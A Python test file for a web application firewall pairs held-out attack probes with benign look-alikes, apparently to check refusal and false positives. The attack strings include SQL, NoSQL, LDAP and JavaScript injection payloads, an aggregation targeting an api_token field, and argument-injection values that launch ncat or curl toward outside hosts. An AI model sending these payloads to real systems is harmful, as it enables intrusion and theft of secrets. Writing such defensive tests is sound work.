"""WAF, part 2z72: held-out probes, ninety-fifth file (README: the
hundred-and-third round), written for this file on 2026-12-07. No string
is taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

The classes the hundred-and-third round's corpora (pigeonracing,
bobsleigh, maplesyrup, lidarsurvey) showed when first replayed (at
c0101c1) that the round fixed, an attack each and a look-alike that
passes:
- sql-in-sentence: (a false positive fixed) a SELECT after three words
  or more of a sentence, the last no SQL word, names a query; one after
  a closed literal and UNION is still refused.
- order-direction-stack: a column's number and its direction, ";" and a
  statement; a sort's words after the ";" pass.
- quote-blank-comment: a phrase, the closing quote, a blank and "--" to
  the end; a quotation's dash passes.
- search-secret-field: a search engine's aggregation over a secret's
  field; one over a grade passes.
- filter-join-stage: a join stage among a filter document's fields; a
  pipeline that matches, then joins, passes.
- regex-any-branch: a $regex with a branch that matches anything; an
  alternation of two names passes.
- tagged-function: the Function constructor given a template literal
  with escaped backticks inside; a sentence about functions passes.
- ldap-mixed-escape: a filter's close escaped, its open written, then an
  operator; an escape in a sentence passes.
- quoted-argv-proxy: ssh's arguments quoted one by one, ProxyCommand
  among them; the same list with a host passes.
- option-probe: a one-letter option opening the value, then a fetcher
  given an address; the option before words passes.
- quoted-row-open: a line that closes the field, then a row of quoted
  fields whose last one is left open; a quotation over two lines passes.
Measured on c0101c1: every attack passed but sql-in-sentence's UNION
(refused there too); the SELECT in a sentence was refused, every other
look-alike passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "sql-in-sentence": ["x' UNION SELECT crate, MIN(weight) FROM hauls--"],
    "order-direction-stack": ["2 DESC; SELECT 2--"],
    "quote-blank-comment": ["Maple Barn' -- "],
    "search-secret-field": ['{"aggs":{"t":{"terms":{"field":"api_token"}}}}'],
    "filter-join-stage": ['{"lot":"A1","$lookup":{"from":"accounts","localField":"a",'
                          '"foreignField":"b","as":"z"}}'],
    "regex-any-branch": ['{"sku": {"$regex": "^MX-1$|.*"}}'],
    "tagged-function": ["new Function`do\\`it\\``"],
    "ldap-mixed-escape": ["Reyes\\29(\\26(uid=\\2a"],
    "quoted-argv-proxy": ["'-o' 'BatchMode=yes' 'ProxyCommand=ncat 203.0.113.9 22'"],
    "option-probe": ["-x curl h.example/s"],
    "quoted-row-open": ['size 38"\r\n"void";"7";"x9'],
}

BENIGN = {
    "sql-in-sentence": ["For the record we ran SELECT crate, MIN(weight) FROM hauls "
                        "GROUP BY crate weekly"],
    "order-direction-stack": ["sort: 3 desc; then by name"],
    "quote-blank-comment": ["the 'best' -- "],
    "search-secret-field": ['{"aggs":{"t":{"terms":{"field":"grade"}}}}'],
    "filter-join-stage": ['[ {"$match": {"state": "paid"}}, {"$lookup": {"from": "orders", '
                          '"localField": "o", "foreignField": "id", "as": "o"}} ]'],
    "regex-any-branch": ['{"sku": {"$regex": "^(MX|NX)-1$"}}'],
    "tagged-function": ["new functions added to the menu"],
    "ldap-mixed-escape": ["note \\29(x) in the table"],
    "quoted-argv-proxy": ["'-o' 'BatchMode=yes' 'host.example'"],
    "option-probe": ["-x marks the spot"],
    "quoted-row-open": ['He said "ok"\n"fine", "sure"'],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r95_attack_refused_everywhere,
 test_heldout_r95_benign_passes) = heldout_probe_tests(
    "r95", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
